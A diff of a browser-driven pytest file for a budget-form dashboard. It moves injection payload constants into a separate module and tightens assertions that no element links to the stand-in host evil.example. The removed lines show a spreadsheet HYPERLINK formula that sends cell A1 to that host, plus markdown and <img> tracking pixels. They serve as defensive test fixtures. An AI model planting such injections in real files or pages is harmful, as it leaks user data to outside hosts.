@@ -17,36 +17,15 @@ import pytest
 
 from dashboard import accounts, importer, store
 from dashboard.untrusted import WORD_JOINER
-from tests.conftest import SAMPLES
 from tests.live_app import CHROMIUM, AppDidNotStart, running_app
+from tests.payloads import DEPARTMENT, EVIL, FORMULA_NAME, IMAGE_NAME, REASON, UNIT, payload_dump
 
 PASSWORD = "s3cret-enough"
-EVIL = "evil.example"
-
-IMAGE_NAME = f"![t](http://{EVIL}/track.png) -- **粗** :red[红]"
-FORMULA_NAME = f'=HYPERLINK("http://{EVIL}/?q="&A1,"点击")'
-DEPARTMENT = f"![d](http://{EVIL}/dept.png)"
-UNIT = f"<img src=http://{EVIL}/unit.png>:material/home:"
-REASON = f"@SUM(1+1) a -- b [链接](http://{EVIL}/)"
 UPLOAD_NAME = f"![f](http{EVIL}) -- x.txt"  # a file name cannot hold "/"
 
 pytestmark = pytest.mark.skipif(
     not CHROMIUM.exists(), reason="/usr/bin/chromium is not installed (apt-get install chromium; .ci/run does)"
 )
-
-
-def payload_dump(project_name: str) -> str:
-    """The seed's first form with attack payloads in its name, 主管部门, 实施单位 and one reason."""
-    seed = (SAMPLES / "000_4b30dd1c6dd4a20d.txt").read_text(encoding="utf-8")
-    form = "项目支出绩效自评表" + seed.split("项目支出绩效自评表")[1]
-    replaced = (
-        form.replace("项目名称 预算准备金 项目金额", f"项目名称 {project_name} 项目金额")
-        .replace("主管部门 0402009 实施单位", f"主管部门 {DEPARTMENT} 实施单位 {UNIT}")
-        .replace("数量指标 预算准备金工作完成率 100% 0% 10 0", f"数量指标 预算准备金工作完成率 100% 0% 10 0 {REASON}")
-    )
-    assert all(text in replaced for text in (project_name, DEPARTMENT, UNIT))  # every payload went in
-    assert f" {REASON}\n" in replaced
-    return replaced
 
 
 @pytest.fixture(scope="module")
@@ -86,8 +65,9 @@ def visible_text(locator) -> str:
 
 
 def assert_no_markup_from_forms(page) -> None:
-    assert page.locator(f'img[src*="{EVIL}"]').count() == 0
-    assert page.locator(f'a[href*="{EVIL}"]').count() == 0
+    # Any element, HTML or SVG (Plotly writes links as <a xlink:href>), pointing at the payloads' host.
+    assert page.locator(f'[*|src*="{EVIL}"]').count() == 0
+    assert page.locator(f'[*|href*="{EVIL}"]').count() == 0
     assert page.locator('[data-testid="stException"]').count() == 0
     assert outside_requests(page) == []
 
@@ -126,6 +106,7 @@ def test_sign_in_comes_before_the_uploader_and_hostile_file_names_stay_text(app,
     picker = page.locator('[data-testid="stSelectbox"]').filter(has_text="选择要撤销的导入").locator("input")
     picker.click()
     page.keyboard.type("x.txt")
+    page.wait_for_timeout(1000)  # the list filters as one types
     page.keyboard.press("Enter")
     page.wait_for_timeout(1000)
     chosen = picker.input_value().replace(WORD_JOINER, "")
